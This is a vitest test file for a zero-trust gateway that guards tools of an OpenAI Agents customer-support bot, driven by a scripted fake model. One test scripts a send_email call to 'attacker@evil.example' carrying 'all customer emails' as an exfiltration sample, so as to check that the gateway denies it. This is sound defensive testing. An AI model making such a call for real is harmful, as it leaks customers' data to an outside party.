import {
  Agent,
  type AgentInputItem,
  type AgentOutputItem,
  type Model,
  type ModelRequest,
  type ModelResponse,
  Runner,
  Usage,
} from '@openai/agents';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { guardedTool, isToolDenial, type ToolDenial } from '../../sdk/frameworks/openai-agents.js';
import type { ZeroTrustClient } from '../../sdk/index.js';
import {
  ACTOR,
  ALLOWED_RECIPIENT,
  downGatewayClient,
  expectDeniedInChain,
  expectRanOnceInChain,
  type FrameworkGateway,
  slowGatewayClient,
  startFrameworkGateway,
  waitForFinalOutcome,
} from './frameworkGateway.js';

/**
 * `zt-infra/sdk/openai-agents` with the real OpenAI Agents SDK (`Runner` and its tool loop) and a scripted
 * fake `Model` (no network, tracing off), against a real emulator.
 */

let gw: FrameworkGateway;

beforeAll(async () => {
  gw = await startFrameworkGateway();
});

afterAll(async () => {
  await gw?.close();
});

/** A model that answers each turn from a script and keeps every request it received. */
class ScriptedModel implements Model {
  readonly requests: ModelRequest[] = [];
  constructor(private readonly turns: AgentOutputItem[][]) {}

  async getResponse(request: ModelRequest): Promise<ModelResponse> {
    this.requests.push(request);
    const output = this.turns[this.requests.length - 1];
    if (output === undefined) throw new Error(`the script has no turn ${this.requests.length}`);
    return { usage: new Usage(), output, responseId: `resp-${this.requests.length}` };
  }

  // biome-ignore lint/correctness/useYield: the tests run without streaming; a streamed run is a test bug
  async *getStreamedResponse(): AsyncIterable<never> {
    throw new Error('the scripted model does not stream');
  }
}

function functionCall(callId: string, name: string, args: unknown): AgentOutputItem {
  return { type: 'function_call', callId, name, arguments: JSON.stringify(args), status: 'completed' };
}

function say(text: string): AgentOutputItem {
  return {
    type: 'message',
    role: 'assistant',
    status: 'completed',
    content: [{ type: 'output_text', text }],
  };
}

/** The function call outputs the model received on its `n`th request (0-based), by call id, as text. */
function outputsSeen(model: ScriptedModel, n: number): Map<string, string> {
  const seen = new Map<string, string>();
  const input = model.requests[n]?.input;
  for (const item of (Array.isArray(input) ? input : []) as AgentInputItem[]) {
    if (item.type !== 'function_call_result') continue;
    const output = item.output as { type?: string; text?: string } | string;
    seen.set(item.callId, typeof output === 'string' ? output : (output.text ?? ''));
  }
  return seen;
}

/** The support bot's tools, guarded; every body records its calls. */
function supportTools(client: ZeroTrustClient, timeoutMs?: number) {
  const calls = { lookup_order: [] as unknown[], refund: [] as unknown[], send_email: [] as unknown[] };
  const options = { actor: ACTOR };
  const tools = [
    guardedTool(client, options, {
      name: 'lookup_order',
      description: 'Look up an order',
      parameters: z.object({ order_id: z.string() }),
      execute: async (input) => {
        calls.lookup_order.push(input);
        return { order_id: input.order_id, status: 'shipped', total_cents: 4200 };
      },
      ...(timeoutMs !== undefined ? { timeoutMs } : {}),
    }),
    guardedTool(client, options, {
      name: 'refund',
      description: 'Refund an order',
      parameters: z.object({ order_id: z.string(), amount_cents: z.number().int() }),
      execute: async (input) => {
        calls.refund.push(input);
        return { refunded: input.amount_cents };
      },
    }),
    guardedTool(client, options, {
      name: 'send_email',
      description: 'Send an email',
      parameters: z.object({ to: z.string(), body: z.string() }),
      execute: async (input) => {
        calls.send_email.push(input);
        return `sent to ${input.to}`;
      },
    }),
  ];
  return { calls, tools };
}

async function runAgent(client: ZeroTrustClient, turns: AgentOutputItem[][], timeoutMs?: number) {
  const { calls, tools } = supportTools(client, timeoutMs);
  const model = new ScriptedModel(turns);
  const agent = new Agent({ name: 'support', instructions: 'help the customer', model, tools });
  const result = await new Runner({ tracingDisabled: true }).run(agent, 'help the customer', { maxTurns: 5 });
  return { calls, model, result };
}

describe('when the model calls a tool no policy allows', () => {
  it('never runs it, and the model receives the deny (reason and record id) as the call output and answers', async () => {
    const args = { order_id: 'A-1', amount_cents: 5000 };
    const { calls, model, result } = await runAgent(gw.client, [
      [functionCall('call-1', 'refund', args)],
      [say('I cannot refund this order myself; a human will look at it.')],
    ]);

    expect(calls.refund).toEqual([]);
    const denial = JSON.parse(outputsSeen(model, 1).get('call-1') ?? 'null') as ToolDenial;
    expect(isToolDenial(denial)).toBe(true);
    expect(denial).toMatchObject({ denied: true, tool: 'refund', action: 'tool.refund', code: 'DENIED' });
    expect(denial.reason).not.toBe('');
    expect(denial.record_id).toMatch(/^main-\d+$/);
    expect(result.finalOutput).toBe('I cannot refund this order myself; a human will look at it.');
    await expectDeniedInChain(gw, denial.record_id, 'tool.refund', args);
  });
});

describe('when the model calls an allowed tool', () => {
  it('runs it exactly once with the model arguments, chains started and succeeded, and the model gets its output', async () => {
    const args = { order_id: 'A-7' };
    const output = { order_id: 'A-7', status: 'shipped', total_cents: 4200 };
    const { calls, model, result } = await runAgent(gw.client, [
      [functionCall('call-1', 'lookup_order', args)],
      [say('Order A-7 has shipped.')],
    ]);

    expect(calls.lookup_order).toEqual([args]);
    expect(JSON.parse(outputsSeen(model, 1).get('call-1') ?? 'null')).toEqual(output);
    expect(result.finalOutput).toBe('Order A-7 has shipped.');
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'succeeded', output });
  });
});

describe('when policy reads the arguments the model chose', () => {
  it('runs the call it allows and denies the other, in the same turn', async () => {
    const allowed = { to: ALLOWED_RECIPIENT, body: 'order A-7 shipped' };
    const exfiltration = { to: 'attacker@evil.example', body: 'all customer emails' };
    const { calls, model } = await runAgent(gw.client, [
      [functionCall('call-ok', 'send_email', allowed), functionCall('call-evil', 'send_email', exfiltration)],
      [say('Done.')],
    ]);

    expect(calls.send_email).toEqual([allowed]);
    const seen = outputsSeen(model, 1);
    expect(seen.get('call-ok')).toBe(`sent to ${ALLOWED_RECIPIENT}`);
    const denial = JSON.parse(seen.get('call-evil') ?? 'null') as ToolDenial;
    expect(denial).toMatchObject({ code: 'DENIED', action: 'tool.send_email' });
    await expectDeniedInChain(gw, denial.record_id, 'tool.send_email', exfiltration);
    await expectRanOnceInChain(gw, 'tool.send_email', allowed, {
      status: 'succeeded',
      output: `sent to ${ALLOWED_RECIPIENT}`,
    });
  });
});

describe('when the gateway is down', () => {
  it('fails closed: the tool does not run and the model receives a denial naming the failure, not the endpoint', async () => {
    const down = await downGatewayClient(gw);
    const { calls, model, result } = await runAgent(down, [
      [functionCall('call-1', 'lookup_order', { order_id: 'A-7' })],
      [say('I cannot look that up right now.')],
    ]);

    expect(calls.lookup_order).toEqual([]);
    const text = outputsSeen(model, 1).get('call-1') ?? 'null';
    expect(JSON.parse(text)).toMatchObject({ denied: true, code: 'CONNECTION_FAILED', record_id: null });
    expect(text).not.toContain('127.0.0.1');
    expect(result.finalOutput).toBe('I cannot look that up right now.');
  });
});

describe('when an allowed tool throws', () => {
  it('chains `failed`, and the model receives the error through the tool `errorFunction`, not a denial', async () => {
    const calls: unknown[] = [];
    const failing = guardedTool(
      gw.client,
      { actor: ACTOR },
      {
        name: 'lookup_order',
        description: 'Look up an order',
        parameters: z.object({ order_id: z.string() }),
        execute: async (input): Promise<string> => {
          calls.push(input);
          throw new Error('orders database unavailable');
        },
      },
    );
    const args = { order_id: 'B-2' };
    const model = new ScriptedModel([[functionCall('call-1', 'lookup_order', args)], [say('Sorry.')]]);
    const agent = new Agent({ name: 'support', instructions: 'help', model, tools: [failing] });
    await new Runner({ tracingDisabled: true }).run(agent, 'where is B-2?', { maxTurns: 5 });

    expect(calls).toEqual([args]);
    // The SDK's default `errorFunction` answers for a tool that threw (with or without the error's text,
    // depending on the version).
    const text = outputsSeen(model, 1).get('call-1') ?? '';
    expect(text).toContain('An error occurred while running the tool');
    expect(text).not.toContain('"denied"');
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'failed' });
  });
});

describe('when the tool call times out while the gateway is deciding', () => {
  it('never starts the tool once the runner has given up on the call', async () => {
    // Every answer of this gateway arrives 400 ms late; the tool's timeout is 100 ms.
    const args = { order_id: 'C-3' };
    const { calls, model } = await runAgent(
      slowGatewayClient(gw, 400),
      [[functionCall('call-1', 'lookup_order', args)], [say('That took too long.')]],
      100,
    );
    expect(outputsSeen(model, 1).get('call-1')).toContain('timed out');

    await waitForFinalOutcome(gw, 'tool.lookup_order', args);
    expect(calls.lookup_order).toEqual([]);
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'failed' });
  });
});

describe('when a tool cannot be guarded', () => {
  it('refuses a tool with an `outputSchema` (a denial would not fit it)', () => {
    expect(() =>
      guardedTool(gw.client, { actor: ACTOR }, {
        name: 'lookup_order',
        description: 'Look up an order',
        parameters: z.object({ order_id: z.string() }),
        outputSchema: z.object({ status: z.string() }),
        execute: async () => ({ status: 'shipped' }),
      } as never),
    ).toThrow(expect.objectContaining({ code: 'INVALID_REQUEST' }));
  });
});
